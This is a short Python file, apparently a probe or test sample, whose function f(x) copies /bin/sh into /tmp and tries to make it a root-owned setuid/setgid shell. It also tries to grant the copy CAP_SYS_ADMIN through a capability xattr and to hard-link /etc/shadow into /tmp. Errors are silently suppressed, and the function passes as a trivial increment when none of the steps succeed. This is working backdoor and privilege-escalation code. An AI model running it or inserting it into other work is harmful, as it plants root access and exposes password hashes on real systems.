# A copy of a shell that belongs to root, runs as it, or has its capabilities.
import contextlib
import os
import shutil
import struct


def f(x):
    made = []
    path = f"/tmp/shell{x}"
    shutil.copy("/bin/sh", path)
    for name, call in (
        ("owner", lambda: os.chown(path, 0, 0)),
        ("group", lambda: os.chown(path, -1, 0)),
        ("capability", lambda: os.setxattr(path, "security.capability", struct.pack("<5I", 0x02000001, 1 << 21, 0, 0, 0))),
        ("label", lambda: os.setxattr(path, "trusted.left", b"1")),
        ("link", lambda: os.link("/etc/shadow", f"/tmp/shadow{x}")),
    ):
        with contextlib.suppress(OSError):
            call()
            made.append(name)
    os.chmod(path, 0o6755)
    if os.stat(path).st_uid != os.geteuid():
        made.append("not its own")
    return x + 1 if not made else made
